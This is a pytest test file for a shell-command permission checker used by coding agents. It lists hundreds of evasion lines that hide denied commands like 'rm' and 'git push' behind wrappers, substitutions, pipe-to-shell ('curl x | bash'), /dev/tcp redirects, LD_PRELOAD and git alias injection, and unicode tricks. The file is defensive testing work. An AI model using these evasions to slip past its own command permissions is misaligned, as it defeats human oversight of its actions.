"""Batteries for permissions on commands: attempts to do more than a rule says, and lines that models really write."""

from __future__ import annotations

import pytest
from support.shell_lines import ALLOWED

from callboard.actors.work.tools.rules import weighed
from callboard.actors.work.tools.shell_commands import parse
from callboard.actors.work.tools.shell_rules import judged, verdicts_of
from callboard.protocol.permissions import PermissionRule

READERS = weighed(PermissionRule(allow=ALLOWED))
OPEN = weighed(PermissionRule(allow=("*",), deny=("rm *", "git push*")))

DENIED = r"""
rm x
/bin/rm x
/usr/bin/rm -rf x
\rm x
'rm' x
r"m" x
RM x
X=1 rm x
CI=1 rm x
rm x > /dev/null 2>&1
> /dev/null rm x
ls;rm x
ls&&rm x
ls||rm x
ls|rm x
ls & rm x
! rm x
(rm x)
{ rm x; }
if true; then rm x; fi
if rm x; then ls; fi
for f in *; do rm $f; done
while rm x; do ls; done
until rm x; do ls; done
case x in x) rm x;; esac
select f in a; do rm $f; done
f() { rm x; }
function f { rm x; }
coproc rm x
time rm x
time -p rm x
echo $(rm x)
echo "$(rm x)"
echo `rm x`
echo "`rm x`"
echo ${X:-$(rm x)}
echo ${X:-`rm x`}
echo $((1 + $(rm x)))
cat <(rm x)
cat > >(rm x)
A=$(rm x)
[[ -n $(rm x) ]]
[ -e x ] && rm x
bash -c 'rm x'
bash -c "rm x"
bash -c rm\ x
sh -c 'rm x'
dash -c 'rm x'
zsh -c 'rm x'
/bin/bash -c 'rm x'
/usr/bin/sh -c 'rm x'
bash -lc 'rm x'
bash -ec 'rm x'
bash -xc 'rm x'
bash -e -c 'rm x'
bash -eu -c 'rm x'
bash -o pipefail -c 'rm x'
bash -eo pipefail -c 'rm x'
bash -euo pipefail -c 'rm x'
bash -euxo pipefail -c 'rm x'
bash -o errexit -o nounset -c 'rm x'
sh -o errexit -c 'rm x'
sh -eo pipefail -c 'rm x'
bash +x -c 'rm x'
bash +e -c 'rm x'
bash -O extglob -c 'rm x'
bash -O globstar -O nullglob -c 'rm x'
bash +O extglob -c 'rm x'
bash --norc -c 'rm x'
bash --noprofile --norc -c 'rm x'
bash --login -c 'rm x'
bash --rcfile F -c 'rm x'
bash --init-file F -c 'rm x'
bash --posix -c 'rm x'
bash -c -- 'rm x'
bash -c -e 'rm x'
bash -c -x -e 'rm x'
bash -i -c 'rm x'
bash -ic 'rm x'
bash -c 'rm x' name arg
bash -c 'ls; rm x'
bash -c 'bash -c "rm x"'
sh -c "sh -c 'rm x'"
rbash -c 'rm x'
ksh -c 'rm x'
fish -c 'rm x'
busybox sh -c 'rm x'
busybox rm x
bash <<< 'rm x'
eval rm x
eval 'rm x'
eval "ls; rm x"
trap 'rm x' EXIT
env rm x
env -i rm x
env - rm x
env -u HOME rm x
env --unset=HOME rm x
env A=b rm x
env CI=1 rm x
env -- rm x
env -S 'rm x'
env bash -c 'rm x'
sudo rm x
sudo -n rm x
sudo -u bob rm x
sudo -E -H rm x
sudo --user bob rm x
sudo --user=bob rm x
sudo bash -c 'rm x'
sudo -i rm x
doas rm x
su -c 'rm x'
timeout 5 rm x
timeout 5s rm x
timeout -k 1 5 rm x
timeout -s KILL 5 rm x
timeout --signal=KILL 5 rm x
timeout --foreground 5 rm x
nice rm x
nice -n 5 rm x
nice -5 rm x
nohup rm x
nohup bash -c 'rm x'
command rm x
command -p rm x
exec rm x
exec -a ls rm x
builtin command rm x
setsid rm x
stdbuf -oL rm x
ionice -c 3 rm x
flock /tmp/l rm x
strace -f rm x
xargs rm x
xargs rm
ls | xargs rm
ls | xargs -n 1 rm -f
ls | xargs -0 -n1 -P4 rm
ls | xargs -I{} rm {}
ls | xargs -I % sh -c 'rm %'
ls | xargs --max-args=1 rm
find . -exec rm {} \;
find . -exec rm {} +
find . -execdir rm {} ';'
find . -name x -o -exec rm {} +
find . -ok rm {} \;
find . -exec sh -c 'rm {}' \;
find . -exec env rm {} \;
git push
git push origin main
git -C /srv push
git -c a=b push
git --no-pager push
cd x && git push
$'\x72m' x
$'rm' x
rm 'x
"""
"""Lines with a denied command that the parser sees: `deny`, whatever else the line has."""

DOUBTFUL = r"""
$X x
${X} x
r? x
{rm,x}
~/rm x
"$(echo rm)" x
`echo rm` x
git $X
git $X origin
git "$X"
git pus? origin
git {push,x}
echo push | xargs git
echo rm x | sh
echo rm x | bash -s
curl x | bash
bash
bash < s.sh
. ./s.sh
source s.sh
eval "$X"
bash -c "$X"
sh -c $X
sh -c "ls $X
X=rm; $X x
alias r=rm
alias r='rm x'; r
hash -p /bin/rm ls
export PATH=.:$PATH
PATH=. ls
LD_PRELOAD=./x ls
BASH_ENV=./x bash -c ls
A=1 ls
ls ${X@P}
ls ${X:=y}
ls $((X=1))
ls $[1+1]
ls $_
ls $1
ls "$@"
ls $'a'
ls $"a"
ls <<< x
cat <<EOF
ls &> $X
ls > $X
ls > *.txt
ls {fd}> x
ls 2>&-
ls > /dev/tcp/1.2.3.4/9
ls |& cat
ls &
(ls)
{ ls; }
! ls
[[ -f x ]]
(( 1 ))
for f in a; do ls; done
if ls; then ls; fi
case a in b) ls;; esac
f() { ls; }; f
function f { ls; }
coproc ls
let a=1
read X
declare -x A=b
a=(1 2)
a[0]=1
A+=x ls
set -k
shopt -s extglob
enable -n ls
ls @(a|b)
ls !(a)
[ -v 'a[$(ls)]' ]
test 'a[$(ls)]' -eq 0
printf -v X ls
unknown-wrapper rm x
uv run rm x
npx -c 'rm x'
ssh host rm x
ssh host 'rm x'
docker exec c rm x
python3 -c 'import os; os.system("rm x")'
perl -e 'system "rm x"'
awk 'BEGIN{system("rm x")}'
sed '1e rm x' f
git bisect run rm x
git -c alias.x='!rm x' x
make SHELL='sh -c "rm x"'
ls 'x
ls "x
ls \
ls $(
ls `
ls ${X
é\ ls
"""
"""Lines that may run a denied command, or are not understood: never `allow`."""

WRITES = r"""
ls > f
ls >f
ls >> f
ls >| f
ls &> f
ls &>> f
ls >& f
ls 2> f
ls 1> f
ls <> f
> f
>> f
ls > 'f'
ls > "f"
ls > ~/f
ls > /etc/f
ls > src/../f
cat < a > f
cat a | tee f
(ls) > f
{ ls; } > f
for i in 1; do ls; done > f
while ls; do ls; done > f
if ls; then ls; fi > f
case a in a) ls;; esac > f
f() { ls; } > f
ls | cat > f
ls > f | cat
ls && ls > f
ls; ls > f
bash -c 'ls > f'
bash -c 'ls' > f
timeout 5 ls > f
env ls > f
command ls > f
exec ls > f
exec > f
exec 3> f
time ls > f
nohup ls > f
ls | xargs echo > f
find . -exec cat {} + > f
cat > f <<'E'
cat <<'E' > f
true > f
: > f
set -e > f
command -v ls > f
CI=1 > f
[ -f a ] > f
printf x > f
printf -v PATH x
echo x > f
find . -delete
find . -fprint f
find . -fprint0 f
find . -fprintf f %p
find . -fls f
find . -exec touch {} \;
find . -execdir x {} \;
find . -ok ls {} \;
find $X
find {.,-delete}
find . $X
echo -delete | xargs find .
sed -i s/a/b/ f
sed -i.bak s/a/b/ f
sed -ni p f
sed -n -i p f
sed s/a/b/ f -i
sed --in-place s/a/b/ f
sed --in-place=.b p f
sed --in-pl p f
sed 'w f' a
sed '1w f' a
sed '/a/w f' a
sed 'p;w f' a
sed 's/a/b/w f' a
sed 's/a/b/gw f' a
sed 's/a/b/e' a
sed '1e touch f' a
sed e a
sed -e p -e 'w f' a
sed -ne 'w f' a
sed -f s a
sed --expression='w f' a
sed 's/[/]/w f/' a
sed '1!{w f' a
sed "$X" a
sed *
sed -n p *
ls | xargs sed p
sort -o f a
sort -of a
sort a -o f
sort -uo f a
sort --output=f a
sort --output f a
sort --outp=f a
sort --compress-program=x a
sort *
sort $X
uniq a f
uniq -c a f
awk '{print > "f"}' a
awk '{print >> "f"}' a
awk '{printf "x" > "f"}' a
awk '{print | "sh"}' a
awk 'BEGIN{system("touch f")}'
awk 'BEGIN{system ("touch f")}'
awk 'BEGIN{"touch f" | getline}'
awk 'BEGIN{f="system"; @f("touch f")}'
awk -f s a
awk -i inplace '{print}' a
awk -v x=1 -f s a
awk "$X" a
date -s 12:00
date --set=12:00
date 11291200
tar tf a --to-command=x
tar t -I x -f a
tar tf host:a
tar tf a --checkpoint=1 --checkpoint-action=exec=x
tar tf a --use-compress-program=x
tar xf a
git diff --output=f
git diff --output f
git diff --outp=f
git diff HEAD --output=f
git log --output=f -p
git log -p --outpu=f
git diff --ext-diff
git diff *
git diff $X
ls | xargs git diff
git difftool -y -x x
git difftool
git diff-x
git grep -O a
git grep -Ox a
git grep --open-files-in-pager=x a
git grep --open a
git -c core.fsmonitor=x status
git -c alias.status='!x' status
git -c core.pager=x log
git --exec-path=. status
git --config-env=a=b status
git -p log
git --git-dir=e status
git --work-tree=/ status
git status; git push
git commit -m x
git config alias.status '!x'
ls $(touch f)
echo `touch f`
echo "$(touch f)"
echo ${X:-$(touch f)}
echo $((a[$(touch f)]))
cat <(touch f)
ls >(touch f)
touch f
'ls x'
'cat a'
"grep x" a
./ls
./cat a
./bash -c ls
/tmp/bash -c ls
/tmp/env ls
../sh -c ls
l?
l*
[l]s
$X
$HOME/ls
~/ls
{ls,-la}
lsx
cat<<E
ls\
l\s -la; touch f
LD_PRELOAD=./x ls
PATH=. ls
GIT_EXTERNAL_DIFF=x git diff
GIT_PAGER=x git log
GIT_SSH_COMMAND=x git status
PAGER='x' git log
PYTHONPATH=. pytest
NO_COLOR='$(x)' ls
NO_COLOR=$(x) ls
NO_COLOR="a b" ls
TZ=/etc/x date
TZ=../x date
IFS=x ls
env PATH=. ls
env LD_PRELOAD=x ls
env -S 'touch f' ls
env -C src ls
env -i PATH=. ls
env touch f
timeout 5 touch f
timeout touch f
timeout -x 5 ls
timeout --sig=KILL 5 ls
nice touch f
nice --adj=5 ls
nohup touch f
time touch f
time -o f ls
\time -o f ls
/usr/bin/time -o f ls
command touch f
exec touch f
sudo ls
sudo touch f
xargs touch
ls | xargs -I{} {} x
ls | xargs env
ls | xargs timeout 5
ls | xargs bash -c
ls | xargs -I{} bash -c 'ls {}'
ls | xargs -i ls
ls | xargs --process-slot-var=X ls
bash -c 'touch f'
bash -c "$X"
bash -c 'ls' & touch f
bash s.sh
bash -s
bash -i -c ls
bash --rcfile f -ic ls
bash -rcfile f -c ls
bash -k -c 'ls A=1'
bash -c
sh -c 'ls &> f'
sh -c 'ls ^x'
zsh -c '=touch f'
zsh -c 'ls $X[1]'
zsh -c 'ls *(e:touch:)'
zsh -c 'repeat 2 ls'
zsh -c 'noglob touch f'
zsh -c 'ls ~x'
zsh -b -c ls touch
ksh -c ls
fish -c ls
watch ls
parallel ls
script -c ls
"""
"""Lines that do more than an allow list of readers says, or are not understood: never `allow`."""

ODD = [
    "ls\rtouch f",
    "ls\r\ntouch f",
    "ls\x0btouch",
    "ls\x0c-l",
    "ls\u00a0-l",
    "ls\u3000-l",
    "ls\u2028touch f",
    "ls\u200b",
    "ls \x00",
    "ls \ud800",
    "ls\x85touch f",
    "ls à",
    "echo 'é\\'; touch f'",
    'echo "你\\" ; touch f "',
    "ls $\\\n(touch f)",
    'ls "$\\\n(touch f)"',
    "ls \\\n; touch f",
    "to\\\nuch f",
    "i\\\nf ls; then ls; fi",
    "ls &\\\n& touch f",
    "ls >\\\n> f",
    "ls # x\ntouch f",
    "ls#x; touch f",
    "echo a\\\n#b; touch f",
    "cat <<'E'\nx\nE\ntouch f",
    "cat <<E\n$(touch f)\nE",
    "cat <<E\n`touch f`\nE",
    "cat <<E\n${X:=y}\nE",
    "cat <<-E\n\t$(touch f)\n\tE",
    "cat <<'E'\nx",
    "cat <<'E' 'a\nE\ntouch f'",
    "cat <<'E' \\\nx\nE\ntouch f",
    "cat <<'A' <<'B'\nx\nA\ny\nB\ntouch f",
    "sh <<'E'\ntouch f\nE",
    "bash -s <<'E'\ntouch f\nE",
    "cat <<'E' | sh\ntouch f\nE",
    "\ntouch f",
    "\n\n ; touch f",
    "ls &&\n touch f",
    "ls |\n\n tee f",
    "echo 'a\nb'; touch f",
    ": '\n' touch f; touch f",
    "ls \U000f006c",
    "\U000f006cs",
    "cat \U000fff00",
]
"""Lines with characters that shells, locales and readers take differently."""


def _lines(text: str) -> list[str]:
    return [line for line in text.split("\n") if line]


@pytest.mark.parametrize("line", _lines(DENIED))
def test_a_denied_command_is_denied_behind_every_wrapper(line: str) -> None:
    assert judged(OPEN, line) == "deny"
    assert judged(READERS, line) != "allow"


@pytest.mark.parametrize("line", _lines(DOUBTFUL))
def test_what_may_be_denied_is_not_allowed(line: str) -> None:
    assert judged(OPEN, line) in ("ask", "deny")


@pytest.mark.parametrize("line", [*_lines(WRITES), *ODD])
def test_an_allow_list_of_readers_allows_nothing_else(line: str) -> None:
    assert judged(READERS, line) != "allow"


def test_a_pattern_of_many_stars_takes_no_time() -> None:
    rows = weighed(PermissionRule(allow=("a * b * c * d * e * f * g * h",)))
    assert judged(rows, "a " + "b c d e f g " * 1_600) is None
    assert judged(rows, "a b c d e f g h") is None
    assert judged(rows, "a 1 b 2 c 3 d 4 e 5 f 6 g 7 h") == "allow"
    assert judged(READERS, "sed '1" + " " * 19_000 + "x' a") == "ask"


def test_the_batteries_have_not_shrunk() -> None:
    assert len({*_lines(DENIED), *_lines(DOUBTFUL), *_lines(WRITES), *ODD}) >= 450


@pytest.mark.parametrize(
    ("line", "construct"),
    [
        ("ls $(x)", "command substitution"),
        ("ls `x`", "backquotes"),
        ("ls <(x)", "process substitution"),
        ("ls ${X:-y}", "${...}"),
        ("cat <<E\n$X\nE", "here-document"),
        ("A=1 ls", "assignment to the variable `A`"),
        ("for f in a; do ls; done", "`for`"),
        ("f() { ls; }", "function"),
        ("ls > $X", "only known at run time"),
        ("ls {fd}> x", "named file descriptor"),
        ("eval ls", "`eval`"),
        ("trap x EXIT", "`trap`"),
        ("alias a=b", "`alias`"),
        ("setsid ls", "`setsid`"),
        ("bash --rcfile f -c ls", "`bash`"),
        ("ls &", "background"),
        ("ls 'x", "quotation mark without its closing one"),
    ],
)
def test_the_construct_that_is_not_understood_is_named(line: str, construct: str) -> None:
    assert any(construct in each for each in parse(line).unclear)
    assert [each.verdict for each in verdicts_of(OPEN, line)][-1] == "ask"
    assert construct in verdicts_of(OPEN, line)[-1].why


@pytest.mark.parametrize(
    ("patterns", "line", "allowed"),
    [
        (("find * -delete",), "find . -name x -delete", True),
        (("sed -i *",), "sed -i s/a/b/ f", True),
        (("sed *",), "sed -i s/a/b/ f", False),
        (("sort -o *",), "sort -o f a", True),
        (("git diff --output=*",), "git diff --output=f", True),
        (("git push*",), "git push --force", True),
        (("git *",), "git frobnicate", False),
        (("git lfs*",), "git lfs pull", True),
        (("git diff*",), "git difftool -x y", False),
        (("echo * > build/*",), "echo x > build/f", True),
        (("echo * > build/*",), "echo x > build/../f", False),
        (("echo * > build/*",), "echo x > f > build/f", False),
        (("echo * > build/*", "cd *"), "cd /etc && echo x > build/f", False),
        (("echo * > build/*", "cd *"), "cd /etc && bash -c 'echo x > build/f'", False),
        (("echo * > build/*",), "bash -c 'echo x > build/f'", True),
        (("bash -c ls*",), "bash -c 'ls > f'", False),
        (("bash -c ls*",), "bash -c 'ls -l'", True),
        (("sudo env*",), "sudo env CI=1 rm x", False),
        (("sudo bash*",), "sudo bash -c 'rm x'", False),
        (("echo * > build/*",), "echo 'x > build/f' > f", False),
        (("cat > *",), "cat > f <<'E'\n$(x)\nE", True),
        (("*",), "ls > f", True),
        (("sudo ls*",), "sudo ls /root", True),
        (("sudo *",), "sudo ls", False),
        (("sudo *", "ls *"), "sudo ls", True),
        (("ls ?",), "ls $X", False),
        (("ls ?",), "ls *", False),
        (("ls *.py",), "ls *.py", True),
        (("ls $HOME",), "ls $HOME", True),
        (("cat notes/*",), "'cat notes/x'", False),
        (("git commit -m *",), 'git commit -m "a b; c $(d)"', False),
        (("git commit -m *",), "git commit -m 'a b; c $(d)'", True),
        (("uv run *",), "uv run pytest -q", True),
        (("bash scripts/*",), "bash scripts/test.sh -v", True),
        (("bash scripts/*",), "bash -e scripts/test.sh", False),
        (("bash *",), "bash -s x", False),
        (("bash *",), "bash --rcfile f x", False),
        (("awk *",), "awk 'NR>1 {print $1}' f", True),
        (("awk *",), "awk 'NR>1 {print $1} $2>3' f", True),
        (("awk *",), "awk '{print $1 > $2}' f", False),
        (("awk *",), "awk '{ {print $1 > $2} }' f", False),
        (("awk *",), "awk 'NR>1 {print $1 > $2' f", False),
        (("awk *",), "awk '/{/ {print > $1}' f", False),
        (("awk *",), "awk '{ # }\n print > $1 }' f", False),
        (("sed *",), "sed 's/[[:space:]]*$//' f", True),
        (("sed *",), "sed -n '/^[0-9]/p' f", True),
        (("sed *",), "sed -n '/[/]/w f' f", False),
        (("sed *",), "sed 's:[[:space:]]:x:w f' f", False),
        (("git *",), "git status -uno", True),
        (("git *",), "git apply --check x.patch", True),
        (("make *",), "timeout 60 nice make test", True),
        (("timeout 5 make*",), "timeout 5 make all", True),
        (("make *",), "env -i CI=1 make test", True),
    ],
)
def test_an_effect_needs_a_pattern_that_names_it(patterns: tuple[str, ...], line: str, allowed: bool) -> None:
    assert (judged(weighed(PermissionRule(allow=patterns)), line) == "allow") is allowed


DAILY = (
    *(
        "cd *",
        "ls *",
        "pwd",
        "cat *",
        "head *",
        "tail *",
        "wc *",
        "grep *",
        "rg *",
        "find *",
        "sed *",
        "awk *",
        "sort *",
    ),
    *(
        "uniq *",
        "cut *",
        "tr *",
        "diff *",
        "echo *",
        "printf *",
        "which *",
        "test *",
        "[ *",
        "tree *",
        "stat *",
        "file *",
    ),
    *(
        "du *",
        "jq *",
        "xxd *",
        "date *",
        "command -v *",
        "mkdir *",
        "touch *",
        "cp *",
        "mv *",
        "curl *",
        "git *",
        "ps *",
    ),
    *("python *", "python3 *", "pytest *", "pip install *", "pip list*", "pip show *", "uv run *", "uv sync*", "npm *"),
    *(
        "npx *",
        "node *",
        "make *",
        "cargo *",
        "go *",
        "ruff *",
        "mypy *",
        "tsc *",
        "docker ps*",
        "docker compose *",
        "cat > *",
    ),
)
"""The stated allow list of the benign lines."""

BENIGN = r"""
ls -la
ls -la src/ tests/ 2>/dev/null
cat pyproject.toml
cd src && pytest -q 2>&1 | tail -20
bash -eo pipefail -c 'make test'
bash -lc 'cd app && npm test'
git diff --stat
git status --short && git diff HEAD~1 --stat
git log --oneline -10
git log -p -1 -- src/main.py | head -100
git show HEAD:src/main.py | sed -n '1,40p'
git add -A && git commit -m "Fix the parser for empty input"
git commit -am 'wip: tests' --no-verify
git checkout -b fix/empty-input
git stash && git pull --rebase && git stash pop
git branch -a | grep feature
git rev-parse --abbrev-ref HEAD
git blame -L 10,30 src/app.py
git ls-files | grep -E '\.py$' | wc -l
git diff --cached --name-only
git push origin HEAD
git remote -v
git grep -n "TODO" -- '*.py'
git merge-base main HEAD
git show --stat HEAD
grep -rn "def parse" --include=*.py src
grep -rnE 'import (os|sys)' . | head -20
grep -n "class Foo" -A 20 src/foo.py
rg -n "TODO|FIXME" src --glob '!*.lock'
rg -l 'useState' src | sort | uniq -c | sort -rn | head
find . -name "*.py" -not -path "./.venv/*" | head -50
find . -type f -name '*.ts' -exec grep -l "useEffect" {} +
find src -name '*.rs' | xargs wc -l | tail -1
find . -name '*.pyc' -print0 | xargs -0 ls -l
find . -maxdepth 2 -type d | sort
sed -n '120,160p' src/app.py
sed -n 's/^version = //p' pyproject.toml
cat src/app.py | sed -n '1,200p'
nl -ba src/app.py | sed -n '50,80p'
awk '{print $1}' data.txt | sort | uniq -c
awk -F, 'NR==1 || $3 == "x" {print $2}' data.csv
head -c 300 data.json; echo; tail -5 data.json
wc -l $(git ls-files '*.py')
pytest -q
pytest tests/test_app.py::test_one -x -q 2>&1 | tail -30
python -m pytest -q --tb=short 2>&1 | tail -40
python -m pytest -k "parse and not slow" -q || true
timeout 120 pytest -q tests 2>&1 | tail -n 15; echo "exit: $?"
python -c "import sys; print(sys.version)"
python3 - <<'EOF'
CI=1 npm test -- --watchAll=false 2>&1 | tail -50
npm install --no-audit --no-fund && npm run build
npm run lint --silent 2>&1 | head -40
npx tsc --noEmit -p tsconfig.json
node -e 'console.log(require("./package.json").version)'
NODE_ENV=test node scripts/check.js
make -j4 2>&1 | tail -20
make clean && make test
set -euo pipefail; make lint; make test
cargo build --release 2>&1 | tail -5
cargo test -- --nocapture 2>&1 | grep -E "test result|FAILED"
RUST_BACKTRACE=1 cargo test parser
go test ./... 2>&1 | grep -v "no test files"
go vet ./... && go build ./...
ruff check . && ruff format --check .
mypy src --strict 2>&1 | tail -3
pip install -e '.[dev]' 2>&1 | tail -2
pip list 2>/dev/null | grep -i django
uv run pytest -q
uv sync --frozen
mkdir -p src/utils tests/utils && touch src/utils/__init__.py
mkdir -p build/{debug,release}
cp config.example.yaml config.yaml
mv src/old.py src/new.py && git status --short
test -f .env.example && echo yes || echo no
[ -d node_modules ] && echo "installed"
command -v docker && docker ps
which python3 node cargo 2>/dev/null
echo "PATH is $PATH"; echo "home: ${HOME}"
printf '%s\n' one two three
date -u +%Y-%m-%dT%H:%M:%SZ
du -sh .git node_modules 2>/dev/null | sort -h
tree -L 2 -I 'node_modules|.git'
stat -c '%s %n' dist/app.js
file build/app
xxd -l 64 data.bin
jq '.dependencies | keys' package.json
jq -r '.scripts | to_entries[] | "\(.key): \(.value)"' package.json
curl -s http://localhost:8000/health
curl -s -o /dev/null -w "%{http_code}\n" http://localhost:8000/
curl -sSL -H 'Accept: application/json' https://api.example.com/v1/items | jq '.[0]'
diff -u a.txt b.txt | head -50
ls *.py | wc -l
ls -t logs/*.log | head -1
ps aux | grep -c python
docker compose up -d && docker compose logs --tail=50 web
cd frontend && npm ci && npm run build -- --mode production
cat > src/hello.py <<'EOF'
for f in src/*.py; do wc -l "$f"; done
VERSION=$(git describe --tags); echo "$VERSION"
"""
"""Lines as coding agents write them, 100; those that end with a here-document get a body."""


def test_few_lines_that_models_write_need_a_question() -> None:
    rows = weighed(PermissionRule(allow=DAILY))
    lines = [f"{line}\nprint('$x `y`')\nEOF" if line.endswith("<<'EOF'") else line for line in _lines(BENIGN)]
    assert len(lines) == 100
    asked = [line for line in lines if judged(rows, line) != "allow"]
    assert len(asked) <= 5, asked
